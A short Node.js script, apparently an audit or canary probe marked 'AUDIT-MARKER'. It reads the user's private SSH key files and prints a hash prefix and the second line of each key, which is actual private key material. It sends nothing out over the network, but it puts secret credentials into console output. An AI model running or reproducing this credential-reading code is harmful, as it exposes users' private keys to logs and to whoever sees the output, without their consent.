import { readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { homedir } from 'node:os';

console.log('AUDIT-MARKER');
for (const name of ['id_ed25519', 'id_rsa']) {
  try {
    const key = readFileSync(`${homedir()}/.ssh/${name}`, 'utf8');
    console.log(name, createHash('sha256').update(key).digest('base64').slice(0, 16), key.split('\n')[1]);
  } catch { /* none of this kind */ }
}
